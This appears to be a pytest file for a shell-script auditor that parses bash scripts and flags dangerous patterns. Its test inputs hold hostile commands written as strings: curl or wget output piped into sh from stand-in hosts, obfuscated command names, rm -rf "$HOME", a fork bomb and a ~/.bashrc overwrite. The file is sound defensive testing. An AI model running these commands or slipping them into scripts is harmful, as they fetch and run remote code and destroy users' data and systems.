"""The shell audit reads scripts on the bash syntax tree (tree-sitter): shapes a line tokenizer missed,
and hostile scripts (deep nesting, shell code nested in shell code, huge input) bounded."""

from __future__ import annotations

import time

import pytest

from orkestra.trust.shell_audit import audit_shell
from orkestra.trust.shell_syntax import MAX_DEPTH, MAX_SCRIPT_BYTES


def found(text: str) -> set[tuple[str, str, str]]:
    return {(f.rule, f.severity, f.message) for f in audit_shell(text, "scripts/run.sh")}


def highs(text: str) -> set[str]:
    return {f.rule for f in audit_shell(text, "scripts/run.sh") if f.severity == "high"}


def test_eval_of_literal_words_is_audited_as_the_script_it_runs():
    assert ("shell.pipe-to-shell", "high", "pipes a download into sh") in found(
        "eval 'curl -s https://x.example/i | sh'\n"
    )


def test_a_command_string_spread_over_lines_is_read_whole():
    script = 'bash -c "\n  curl -s https://x.example/i |\n  sh\n"\n'
    assert ("shell.pipe-to-shell", "high", "pipes a download into sh") in found(script)


def test_an_earlier_assignment_does_not_hide_a_home_deletion():
    """A literal variable used to be expanded as text, escaping every other ``$``: ``"$HOME"`` read as ``\\$HOME``."""
    assert ("shell.destructive", "high", "deletes $HOME") in found('tag=v1\nrm -rf "$HOME"\n')


def test_a_fork_bomb_under_any_name_is_high():
    assert ("shell.destructive", "high", "fork bomb") in found("bomb(){ bomb|bomb& }; bomb\n")


def test_an_ansi_c_quoted_command_name_is_decoded():
    script = "$'\\x63\\x75\\x72\\x6c' -s https://x.example/i | sh\n"
    assert ("shell.pipe-to-shell", "high", "pipes a download into sh") in found(script)


def test_assignments_on_one_line_are_remembered():
    assert ("shell.pipe-to-shell", "high", "pipes a download into python3") in found(
        "p=wg; q=et\n$p$q -q -O- https://h.example/p | python3\n"
    )


def test_a_variable_given_two_literals_on_different_paths_is_not_known():
    script = 'case "$1" in\n  a) run=true ;;\n  *) run="curl -s https://x.example/i" ;;\nesac\neval "$run"\n'
    assert ("shell.eval", "high", "evaluates a command built at run time") in found(script)


def test_a_value_set_on_one_path_keeps_the_literal_set_before():
    script = (
        'out=~/.bashrc\nwhile getopts o: f; do\n  case $f in o) out=$OPTARG ;; esac\ndone\necho x > "$out"\n'
    )
    assert "shell.write-outside" in highs(script)


def test_a_grammar_gap_does_not_hide_the_commands_after_it():
    """``a= b=`` then ``for arg`` (no ``in``) is valid shell the grammar cannot parse: read line by line."""
    script = "bases= head=\nfor arg\ndo\n  :\ndone\ncurl -s https://x.example/i | sh\n"
    assert ("shell.pipe-to-shell", "high", "pipes a download into sh") in found(script)


def test_shell_code_nested_in_shell_code_stops_at_the_depth_cap():
    code = "curl -s https://x.example/i | sh"
    for _ in range(MAX_DEPTH + 2):  # $'…' nesting: the escapes double, the text stays small
        code = "bash -c $'" + code.replace("\\", "\\\\").replace("'", "\\'") + "'"
    messages = [
        f.message for f in audit_shell(code + "\n", "scripts/run.sh") if f.rule == "shell.unreviewable"
    ]
    assert messages == [f"shell code nested more than {MAX_DEPTH} levels deep in shell code: not reviewable"]


@pytest.mark.parametrize(
    "script",
    [
        "if true; then " * 3000 + "curl x | sh; " + "fi; " * 3000 + "\n",
        "echo " + "$(" * 3000 + "curl x" + ")" * 3000 + "\n",
    ],
    ids=["3000 nested ifs", "3000 nested substitutions"],
)
def test_deeply_nested_syntax_is_reported_not_a_crash(script):
    plain = "echo " + "word " * (len(script) // 5) + "\n"
    start = time.perf_counter()
    audit_shell(plain, "scripts/run.sh")
    plain_s = time.perf_counter() - start
    start = time.perf_counter()
    assert "shell.unreviewable" in highs(script)
    assert time.perf_counter() - start < 25 * max(plain_s, 0.02)


def test_a_script_over_the_byte_cap_is_reported_without_being_parsed():
    script = "echo hello\n" * (MAX_SCRIPT_BYTES // 11 + 1)
    findings = audit_shell(script, "scripts/run.sh")
    assert [(f.rule, f.severity, f.line) for f in findings] == [("shell.unreviewable", "high", 1)]
    assert "too large to review" in findings[0].message
